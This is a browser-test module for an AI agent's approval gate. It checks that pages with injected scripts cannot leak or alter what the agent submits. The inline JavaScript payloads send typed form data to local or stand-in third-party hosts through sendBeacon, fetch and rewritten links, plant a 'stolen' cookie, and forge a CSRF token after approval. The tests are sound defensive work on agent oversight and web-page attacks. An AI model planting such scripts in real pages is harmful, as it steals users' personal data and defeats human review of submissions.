"""Pages that help an attacking planner, or attack by themselves what review and runs take for granted."""

from __future__ import annotations

import itertools
from typing import Any

import pytest

from agent.planner.base import ButtonKind, Choose, Click, Fill, GiveUp, View
from agent.runs import limits, pressing
from agent.store import submissions
from tests.attackers.canaries import FACTS
from tests.attackers.case import FORM, NAME, Case, button, control, fill, fill_and_press, given, link, new_case, press
from tests.attackers.stage import Stage
from tests.parts.recording import Arrived, Reply

pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="module")]

BACKWARDS = "[...e.target.value].reverse().join('')"
_numbers = itertools.count()


def on_input(code: str) -> str:
    return f"<script>addEventListener('input', (e) => {{ {code} }})</script>"


def on_submit(code: str) -> str:
    return f"<script>addEventListener('submit', (e) => {{ const f = e.target; {code} }})</script>"


def name() -> str:
    return f"page{next(_numbers)}"


async def sent(case: Case, *turns: Any) -> list[str]:
    """Approves the first thing that is held, and waits until the run is over or waits again."""
    async with case.playing(*turns) as work:
        await case.until(case.held, work)
        case.approve()
        await case.until(lambda: work.done() or len(case.call("inbox")) > 0)
    assert submissions.get(case.desk.store, 1).state == "answered"
    return [f"{each.method} {each.target}" for each in case.writes]


# What comes back later

TWO = {"/": '<h1>One</h1><form method=post action=/one><input name=given><button>Next</button></form>',
       "/two": on_input(f"history.replaceState(0, '', '/two?d=' + {BACKWARDS})") + (
           '<h1>Two</h1><form method=post action=/two><input name=family><button>Next</button></form>')}


async def test_an_address_that_a_page_wrote_is_not_opened_when_a_task_goes_on(ground: Stage) -> None:
    def steps(request: Arrived) -> Reply:
        return Reply(303, headers=(("Location", "/two"),)) if request.target == "/one" else Reply(body=b"<h1>End")

    second = fill_and_press(family=FACTS["family-name"])
    async with new_case(ground, name(), TWO, answerer=steps) as case:
        async with case.playing(fill_and_press(given=NAME), second) as work:
            await case.until(case.held, work)
            case.approve()
            await case.until(lambda: [each for each in case.call("inbox") if each["id"] == "s2"], work)
        assert "?d=" in case.sheet(2)["page_url"]          # the page did write it
        case.approve(2)
        before = len(case.first.arrived)
        await case.play(fill_and_press(given=NAME), second)
        assert len(case.first.arrived) > before
        assert [each.target for each in case.first.arrived if "d=" in each.target] == []


TOKEN = "q8Zk2Lw9Tt41mmXcR7"
RENEWED = ('<form method=post action=/send><input type=hidden name=csrf_token value={token}><input name=given>'
           '<input id=unsent><button>Submit</button></form>')


def _with_unsent(view: View) -> list[Any]:
    unsent = next(each for each in view.page.controls if each.id == "unsent")
    return [fill(view, "given", NAME), Fill(unsent.ref, given(FACTS["email"], detail="email"), ""), press(view)]


async def test_a_token_that_the_site_made_anew_is_taken_for_the_approved_one(ground: Stage) -> None:
    async with new_case(ground, name(), {"/": RENEWED.format(token=TOKEN)}) as case:
        case.add()
        await case.play(_with_unsent)
        case.approve()
        case.first.pages["/"] = case.first.pages["/"].replace(TOKEN, TOKEN[::-1])
        await case.play(_with_unsent)
        assert [TOKEN[::-1] in each.body.decode() for each in case.writes] == [True]


async def test_a_token_that_a_page_made_after_the_approval_is_not(ground: Stage) -> None:
    code = (f"const t = document.querySelector('[type=hidden]'), v = btoa({BACKWARDS}).replaceAll('=', '') + '0a1b2c';"
            "if (e.target.id) { t.setAttribute('value', v); t.value = v; }")
    async with new_case(ground, name(), {"/": RENEWED.format(token=TOKEN)}) as case:
        case.add()
        await case.play(_with_unsent)
        case.approve()
        case.first.pages["/"] = on_input(code) + case.first.pages["/"]
        await case.play(_with_unsent)
        assert case.writes == []
        assert case.task().state == "needs_review"
        assert [each["name"] for each in case.sheet()["difference"]] == ["csrf_token"]


# Who sends, and when

async def test_what_the_answer_page_sends_by_itself_is_no_part_of_the_approval(ground: Stage) -> None:
    again = (b"<form id=f method=post action=/again><input name=given value=x></form><script>f.submit()</script>"
             b"<script>fetch('/again2', {method: 'POST', body: 'x'}).catch(() => 0)</script>")
    async with new_case(ground, name(), {"/": FORM}, answerer=lambda _request: Reply(body=again)) as case:
        assert await sent(case, fill_and_press(given=NAME)) == ["POST /send"]


@pytest.mark.parametrize("code", [
    "navigator.sendBeacon('/copy', f.given.value)",
    "fetch('/copy', {method: 'POST', keepalive: true, body: new FormData(f)}).catch(() => 0)",
    "fetch(f.action, {method: 'POST', body: new URLSearchParams(new FormData(f))}).catch(() => 0)"])
async def test_a_copy_sent_beside_the_submission_does_not_go_out(ground: Stage, code: str,
                                                                 monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(pressing, "SIBLINGS", 1.5)  # what belongs to one press may be apart on a busy machine
    async with new_case(ground, name(), {"/": on_submit(code) + FORM}) as case:
        assert await sent(case, fill_and_press(given=NAME)) == ["POST /send"]
        assert case.sheet()["also_tried"] or "action" in code


async def test_what_is_sent_long_after_a_press_is_refused(ground: Stage, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(pressing, "AFTER_PRESS", 0.2)
    monkeypatch.setattr(limits, "PATIENCE", 2.0)
    page = FORM.replace("<button>", "<button type=button onclick=\"setTimeout(() => fetch('/late', {method: 'POST',"
                        " body: document.querySelector('input').value}), 1500)\">")
    async with new_case(ground, name(), {"/": page}) as case:
        case.add()
        await case.play(fill_and_press(given=NAME), lambda _view: [GiveUp("wait")], lambda _view: [GiveUp("end")])
        assert (case.writes, case.stolen()) == ([], [])


async def test_the_same_sent_a_second_time_is_asked_about_and_said_to_be_the_second(ground: Stage) -> None:
    turns = fill_and_press(given=NAME), fill_and_press(given=NAME)
    async with new_case(ground, name(), {"/": FORM}, answerer=lambda _request: Reply(body=FORM.encode())) as case, (
            case.playing(*turns)) as work:
        await case.until(case.held, work)
        case.approve()
        await case.until(lambda: [each for each in case.call("inbox") if each["id"] == "s2"], work)
        assert "already sent exactly this" in " ".join(case.sheet(2)["warnings"])
        assert len(case.writes) == 1


async def test_a_form_that_opens_a_new_window_is_held_like_any_other(ground: Stage) -> None:
    page = FORM.replace("<form", "<form target=_blank")
    async with new_case(ground, name(), {"/": page}) as case:
        assert await sent(case, fill_and_press(given=NAME)) == ["POST /send"]


# Where it goes

@pytest.mark.parametrize("status", [307, 308])
async def test_an_approval_does_not_follow_a_redirect_to_another_site(ground: Stage, status: int) -> None:
    async with new_case(ground, name(), {"/": FORM}) as case:
        case.first._answerer = lambda _request: Reply(status, headers=(("Location", case.third.url + "/x"),))
        async with case.playing(fill_and_press(given=NAME)) as work:
            await case.until(case.held, work)
            case.approve()
            await case.until(lambda: [each for each in case.call("inbox") if each["id"] == "s2"], work)
            warned = " ".join(case.sheet(2)["warnings"])
        assert ("another site" in warned, "another address" in warned) == (True, True)
        assert case.third.arrived == []


FRAME = (on_input("fetch('/typed?' + e.target.value).catch(() => 0); new Image().src = '/i?typed'")
         + '<form method=post action=/x><input name=framed><button>Go on</button></form>')


async def test_a_frame_of_another_site_gets_nothing_of_what_is_typed_into_it(ground: Stage) -> None:
    page = '<h1>Form</h1><iframe src="@THIRD@/frame" width=400 height=200></iframe>'
    async with new_case(ground, name(), {"/": page}, {"/frame": FRAME}) as case:
        case.add()
        await case.play(lambda view: [fill(view, "framed", NAME), press(view, "Go on")])
        assert [each.target for each in case.third.arrived if each.target != "/favicon.ico"] == ["/frame"]
        assert case.stolen() == []


@pytest.mark.parametrize("to", ["/leak?d=", "@THIRD@/leak?d="])
async def test_a_link_that_took_up_what_was_typed_is_held(ground: Stage, to: str) -> None:
    page = on_input(f"document.querySelector('a').href = '{to}' + {BACKWARDS}") + FORM + "<a href='/next'>On</a>"
    async with new_case(ground, name(), {"/": page}) as case:
        case.add()
        await case.play(lambda view: [fill(view, "given", NAME),
                                      Click(link(view.page, "On").ref, "", ButtonKind.OTHER, True)])
        assert (case.task().state, case.stolen()) == ("needs_review", [])
        assert case.row("d")["value"] == NAME[::-1]
        assert case.third.arrived == []


async def test_a_form_of_another_site_is_held_and_said_to_be_one(ground: Stage) -> None:
    page = FORM.replace("/send", "@THIRD@/send").replace("post", "get")
    async with new_case(ground, name(), {"/": page}) as case:
        case.add()
        await case.play(fill_and_press(given=NAME))
        assert "another site" in " ".join(case.sheet()["warnings"])
        assert case.third.arrived == []


async def test_a_window_of_another_site_opened_while_typing_stays_empty(ground: Stage) -> None:
    page = on_input("open('@THIRD@/known'); location.href = '@THIRD@/known'") + FORM
    async with new_case(ground, name(), {"/": page}) as case:
        case.add()
        await case.play(lambda view: [fill(view, "given", NAME)] if view.page.controls else [],
                        lambda _view: [GiveUp("end")])
        assert case.third.arrived == []


# What the sheet says

async def test_what_a_handler_changed_added_or_renamed_stands_first_and_is_not_ours(ground: Stage) -> None:
    code = ("f.given.value += '0'; f.append(Object.assign(document.createElement('input'), {name: 'extra',"
            " value: btoa(f.given.value)}))")
    async with new_case(ground, name(), {"/": on_submit(code) + FORM}) as case:
        case.add()
        await case.play(fill_and_press(given=NAME))
        rows = {row["name"]: (row["source"], row["flags"]) for row in case.sheet()["fields"]}
        assert rows["given"] == ("page default", ["changed by the page"])
        assert rows["extra"][0] == "hidden"
        assert "not on the page" in rows["extra"][1]


async def test_an_option_whose_value_changed_after_it_was_chosen_is_not_ours(ground: Stage) -> None:
    page = ('<form method=post action=/send><select name=country><option value=FR>France<option value=GB>United Kingdom'
            '</select><button>Submit</button></form>')
    page = on_input("e.target.selectedOptions[0].value = 'premium'") + page
    async with new_case(ground, name(), {"/": page}) as case:
        case.add()
        await case.play(lambda view: [Choose(control(view.page, "country").ref, 1, given("GB", detail="country"), "")]
                        if control(view.page, "country").options[1].value == "GB" else [],
                        lambda view: [press(view)])
        row = case.row("country")
        assert (row["value"], row["source"], row["flags"]) == ("premium", "page default", ["changed by the page"])


async def test_a_cookie_that_a_page_wrote_while_typing_is_a_row(ground: Stage) -> None:
    page = on_input(f"document.cookie = 'stolen=' + {BACKWARDS} + ';path=/'") + FORM
    async with new_case(ground, name(), {"/": page}) as case:
        case.add()
        await case.play(fill_and_press(given=NAME))
        shown = [row["value"] for row in case.sheet()["fields"] if row["where"] == "header"]
        assert shown == [f"stolen={NAME[::-1]}"]


async def test_the_picture_is_of_the_page_that_is_sent(ground: Stage) -> None:
    ground.pictured = True
    async with new_case(ground, name(), {"/": FORM}) as case:
        case.add()
        await case.play(fill_and_press(given=NAME))
        first = case.sheet()["screenshot"]
        case.call("send-back", id="s1", text="again")
        await case.play(lambda view: [fill(view, "given", FACTS["family-name"], detail="family-name"),
                                      press(view, kind=ButtonKind.OTHER, is_link=True)])
        assert case.sheet()["screenshot"] not in ("", first)


async def test_a_button_that_sends_is_no_link_although_the_page_says_it_is(ground: Stage) -> None:
    link_like = "<a role=button href='#' onclick='document.forms[0].submit()'>Go</a>"
    page = FORM.replace("<button>Submit</button>", link_like)
    async with new_case(ground, name(), {"/": page}) as case:
        case.add()
        await case.play(lambda view: [fill(view, "given", NAME), Click(
            (link(view.page, "Go") if view.page.links else button(view.page, "Go")).ref, "", ButtonKind.OTHER, True)])
        assert (case.writes, case.task().state) == ([], "needs_review")


@pytest.mark.parametrize(("words", "held"), [("Decline", True), ("Refuser le rendez-vous", True),
                                             ("Reject additional cookies", False)])
async def test_a_refusal_is_of_cookies_only_when_it_says_so(ground: Stage, words: str, held: bool) -> None:
    page = (f'<h1>Your appointment</h1><form method=post action=/answer><button>{words}</button></form>'
            '<footer>We use cookies.</footer>')
    async with new_case(ground, name(), {"/": page}) as case:
        case.add()
        await case.play(lambda view: [press(view, words, ButtonKind.OTHER)])
        assert (case.held() is not None) is held
        assert ([each.target for each in case.writes] == []) is held
